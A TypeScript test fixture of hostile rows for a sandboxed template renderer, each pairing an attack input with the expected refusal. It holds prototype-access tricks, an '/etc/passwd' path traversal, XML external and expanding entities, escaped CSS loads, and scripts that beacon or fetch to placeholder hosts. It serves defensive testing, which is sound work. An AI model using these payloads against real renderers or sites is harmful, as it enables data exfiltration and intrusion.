type Files = Record<string, string>

/**
 * One try. `SITE`, `HOST` and `FILE` are addresses that must not be reached; the data hold the first and the last as `url`
 * and `file`. A text at the end is what the refusal says, a pattern is what alone stands on the paper.
 */
export type HostileRow = [way: string, template: string, end: string | RegExp, files?: Files]

const style = (css: string): Files => ({ 'style.css': css })
const partials = (text: string): Files => ({ 'partials/a.hbs': text, 'partials/b.hbs': '{{> a}}' })
const svg = (inside: string, before = '') => {
  const drawing = `${before}<svg xmlns='http://www.w3.org/2000/svg' width='90' height='20'>${inside}</svg>`
  return `<img src="data:image/svg+xml,${encodeURIComponent(drawing)}">`
}

/** Into the insides of the program that fills the template. */
const insides: HostileRow[] = [
  ['the constructor of the data', '{{constructor.name}}', 'line 1: "constructor" is no data'],
  ['a prototype inside a block', '\n{{#with rows}}{{this.__proto__}}{{/with}}', 'line 2: "__proto__" is no'],
  ['a prototype that is looped over', '{{#each constructor.prototype}}{{/each}}', '"constructor" is no data'],
  ['a prototype by its bracketed name', '{{@root.[__proto__]}}', '"__proto__" is no data'],
  ['a prototype as an argument', '{{yuan name.constructor.prototype}}', '"constructor" is no data'],
  ['a setter of the prototype', '{{#with this.__defineGetter__}}{{/with}}', 'is no data'],
  ['the name of the constructor as text', '{{"constructor"}}{{#with rows}}{{"__proto__"}}{{/with}}a', /^a$/],
  [
    'names of the prototype given to helpers',
    '{{some rows "constructor"}}{{#each (pages rows "__proto__")}}{{#if @first}}a{{/if}}{{/each}}',
    /^falsea$/,
  ],
  ['a picture named after the prototype', '{{image "__proto__"}}', 'no picture named "__proto__"'],
  ['lookup', '{{lookup this "constructor"}}', 'no helper named lookup'],
  ['lookup in a helper', '{{yuan (lookup this name)}}', 'no helper named lookup'],
  ['log', '{{log "x"}}', 'no helper named log'],
  ['the hook for missing helpers', '{{helperMissing "x"}}', 'no helper named helperMissing'],
  ['the hook for missing blocks', '{{#blockHelperMissing this}}a{{/blockHelperMissing}}', 'no helper named'],
  ['a partial named by lookup', "{{> (lookup . 'name')}}", 'line 1: a partial is called by its name'],
  ['a partial named by a helper', '{{> (either 1 "a" "b")}}', 'is called by its name', partials('a')],
  ['a partial block named by a helper', '{{#> (either 1 "a" "b")}}{{/undefined}}', 'called by its name'],
  ['a partial outside of the template', '{{> ../../../../etc/passwd}}', 'could not be found'],
  ['a partial of itself', '{{> a}}', 'call stack', partials('{{> a}}')],
  ['partials in a ring', '{{> a}}', 'call stack', partials('{{> b}}')],
  ['unescaped data', '{{{url}}}', 'put data on the paper unescaped'],
  ['unescaped data by a sign', '{{&url}}', 'put data on the paper unescaped'],
  ['data that is HTML', '{{html}}', /^<script>fetch\([^]+<iframe src=[^]+<\/iframe>$/],
  ['a thing that is no text', '{{odd}}', 'cannot be written as text'],
  ['a number of a million digits', '{{number long}}', 'is no decimal number'],
]

/** Elements and rules that load, embed, send or run, seen before anything is drawn. */
const seen: HostileRow[] = [
  ['a script that fetches', '<script>fetch("SITE/fetch")</script>', '<script> may not be used'],
  ['a script that opens a socket', '<SCRIPT>new WebSocket("ws://HOST")</SCRIPT>', '<SCRIPT> may not be used'],
  ['a script in SVG', '<svg><script>fetch("SITE/svg")</script></svg>', '<script> may not be used'],
  ['a link that is a script', '<a href="javascript:fetch(\'SITE\')">a</a>', 'loads something from outside'],
  ['a frame of a file', '<iframe src=FILE></iframe>', 'loads something from outside'],
  ['a frame named by data', '<iframe src="{{url}}"></iframe>', '<iframe> may not be used'],
  ['a frame with its own text', '<iframe srcdoc="{{url}}"></iframe>', '<iframe> may not be used'],
  ['a frame of data', '<iframe src="data:text/html,a"></iframe>', '<iframe> may not be used'],
  ['an object', '<object data="{{file}}"></object>', '<object> may not be used'],
  ['an embedded file', '<embed src="{{file}}">', '<embed> may not be used'],
  ['a film', '<video src="{{url}}"></video>', '<video> may not be used'],
  ['a prefetch', '<link rel="prefetch" href="{{url}}">', '<link> may not be used'],
  ['a name looked up ahead', '<link rel=dns-prefetch href="//HOST">', 'loads something from outside'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=SITE/refresh">', '<meta> may not be used'],
  ['a base', '<base href="{{url}}"><img src="{{url}}">', '<base> may not be used'],
  ['a form', '<form action="{{url}}"><input></form>', '<form> may not be used'],
  ['a button that sends', '<button formaction="SITE/button">', 'loads something from outside'],
  ['a foreign object', '<svg><foreignObject>a</foreignObject></svg>', '<foreignObject> may not be used'],
  ['an image', '<img src="SITE/img">', 'loads something from outside'],
  ['an image of a file', '<img src=FILE>', 'loads something from outside'],
  ['an image without its protocol', '<img src="//HOST/img">', 'loads something from outside'],
  ['a set of images', '<img srcset="SITE/set 2x">', 'loads something from outside'],
  ['a drawing used in SVG', '<svg><use href="SITE/use#a"/></svg>', 'loads something from outside'],
  ['a background in an attribute', '<b style="background: url(//x)">', 'loads something from outside'],
  ['an import', '', '"@import" loads', style('@import "SITE/a.css"')],
  ['a font', '', 'loads something', style('@font-face { font-family: f; src: url(SITE/f) }')],
  ['a style sheet that ends early', '', '"</style" ends', { 'partials/a.css': '</style><script>' }],
]

/** Addresses that hide in data, in escapes or in time: told when the browser asks for them. */
const hidden: HostileRow[] = [
  ['an image named by data', '<img src="{{url}}">', '/data; only data:'],
  ['a set of images named by data', '<img srcset="{{url}} 2x">', '/data; only data:'],
  ['an image in a form field', '<input type=image src="{{url}}">', '/data; only data:'],
  ['a picture in SVG named by data', '<svg><image href="{{url}}"/></svg>', '/data; only data:'],
  [
    'a picture in a filter of SVG',
    '<svg><filter id=f><feImage href="{{url}}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
    '/data; only data:',
  ],
  ['an old background', '<table background="{{url}}"><tr><td>a</table>', '/data; only data:'],
  ['a set of backgrounds', '<p style="background: image-set(\'SITE/set\' 1x)">a</p>', '/set; only data:'],
  ['escaped CSS', '<p>a</p>', '/a; only data:', style('p { background: \\75 rl(SITE/a) }')],
  ['an escaped import', '<style>@\\69mport "SITE/a.css";</style>', '/a.css; only data:'],
  [
    'an escaped font',
    '<style>@font-face { font-family: f; src: u\\72l(SITE/f) } p { font-family: f }</style><p>a</p>',
    '/f; only data:',
  ],
  ['what is only printed', '<style>@media print { p { background: u\\72l(SITE/p) } }</style><p>a</p>', '/p;'],
  ['what shows where scripts are off', '<noscript><img src="{{url}}"></noscript>', '/data; only data:'],
  [
    'a handler',
    '<p onclick="x" onload="fetch(0)">a<img src="data:," onerror="document.body.append(1)">',
    /^a$/,
  ],
  ['a link to follow', '<a href="{{url}}">a</a>', /^a$/],
  ['a picture that is an address', '{{image url}}{{image "javascript:fetch(0)"}}a', /^a$/],
  [
    'pictures in a picture',
    `${svg("<image href='SITE/in'/><image href='FILE'/><style>@import 'SITE/css'</style><script>1</script>")}a`,
    /^a$/,
  ],
  [
    'an entity of XML that is a file',
    `<!DOCTYPE x [<!ENTITY e SYSTEM "FILE">]>${svg('<text y="9">&e;</text>', '<!DOCTYPE svg [<!ENTITY e SYSTEM "FILE">]>')}a`,
    /^[^S]*a$/,
  ],
  [
    'entities of XML that multiply',
    `${svg('<text y="9">&c;</text>', `<!DOCTYPE svg [<!ENTITY a '${'x'.repeat(99)}'><!ENTITY b '${'&a;'.repeat(99)}'><!ENTITY c '${'&b;'.repeat(99)}'>]>`)}a`,
    /a$/,
  ],
]

/** HTML that no check has seen: the browser alone stands between it and the network. */
const raw: [way: string, html: string][] = [
  ['fetch', '<script>fetch("SITE/fetch"); document.body.append("SCRIPTED")</script>a'],
  ['a socket', '<script>new WebSocket("ws://HOST/ws")</script>a'],
  ['an event source', '<script>new EventSource("SITE/events")</script>a'],
  [
    'a peer',
    '<script>new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }] }).createOffer()</script>a',
  ],
  ['a beacon', '<script>navigator.sendBeacon("SITE/beacon", "a")</script>a'],
  ['a window', "<body onload=\"window.open('SITE/window'); location = 'SITE/location'\">a"],
  ['workers', '<script>navigator.serviceWorker.register("SITE/w.js"); new Worker("SITE/w.js")</script>a'],
  ['a handler', '<img src="data:," onerror="location=\'SITE/error\'">a'],
  ['a link that is a script', '<a href="javascript:fetch(\'SITE/js\')" autofocus>a</a>'],
  [
    'a form that sends itself',
    '<form id=f action="SITE/form"><input autofocus></form><script>f.submit()</script>a',
  ],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=SITE/refresh">a'],
  ['a refresh to a file', '<meta http-equiv="refresh" content="0;url=FILE">a'],
  ...[
    'stylesheet',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'preload',
    'modulepreload',
    'icon',
    'prerender',
    'manifest',
  ].map((rel): [string, string] => [
    `a link for ${rel}`,
    `<link rel="${rel}" as="image" href="SITE/${rel}">a`,
  ]),
  [
    'speculation',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["SITE/speculation"]}]}</script>a',
  ],
  ['frames', '<iframe src="SITE/iframe"></iframe><iframe src="FILE"></iframe>a'],
  [
    'a frame of data',
    '<iframe src="data:text/html,<img src=SITE/inner><script>fetch(\'SITE/js\')</script><iframe src=FILE>"></iframe>',
  ],
  ['a frame with its own text', '<iframe srcdoc="<img src=SITE/inner>"></iframe>'],
  [
    'objects',
    '<object data="SITE/object"></object><embed src="FILE"><object data="FILE" type="text/html"></object>',
  ],
  ['media', '<video src="SITE/video" poster="SITE/p"></video><audio src="SITE/a" autoplay></audio>'],
  [
    'a policy that reports',
    '<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src \'none\'; report-uri SITE/report"><img src="SITE/img">',
  ],
  [
    'SVG',
    '<svg><image href="SITE/image"/><use href="SITE/use#a"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="SITE/foreign"/></foreignObject></svg>',
  ],
  [
    'a shadow',
    '<div><template shadowrootmode="open"><style>@import "SITE/shadow"</style><img src="SITE/s"></template></div>',
  ],
  [
    'CSS',
    '<style>@import "SITE/import"; @font-face { font-family: f; src: url(SITE/font) } body { font-family: f } li { list-style: url(SITE/list) } p::before { content: url(SITE/content) }</style><li>a<p>a',
  ],
  ['a page rule', '<style>@page { background: url(SITE/page); @top-left { content: url(SITE/m) } }</style>a'],
]

const nested = (depth: number, text: string): string =>
  depth === 0 ? text : `{{#each @root.rows}}${nested(depth - 1, text)}{{/each}}`

/** Without an end, or far too much: stopped by time, memory or count. */
const endless: HostileRow[] = [
  ['a loop in loops', nested(6, ''), 'was not done after 5 s'],
  [
    'ranges in ranges',
    '{{#each (times 1000)}}{{#each (times 1000)}}{{#each (times 1000)}}{{/each}}{{/each}}{{/each}}',
    'was not done',
  ],
  ['a loop that fills the memory', nested(4, '{{this}}{{@index}}'), ' '],
  ['20 MB of text', nested(2, 'x'.repeat(230)), 'more than 5000000 characters'],
  ['90,000 elements', nested(2, '<b>a</b>'), '90000 elements, at most 50000'],
  ['6 MB of style', 'a', 'more than 5000000 characters', style('b{top:0}\n'.repeat(700_000))],
  ['a picture of 50 MB', '{{image picture}}', 'more than 5000000 characters'],
  ['500 elements in one another', `${'<div>'.repeat(500)}a`, /^a$/],
]

export const hostileRows = { insides, seen, hidden, raw, endless }
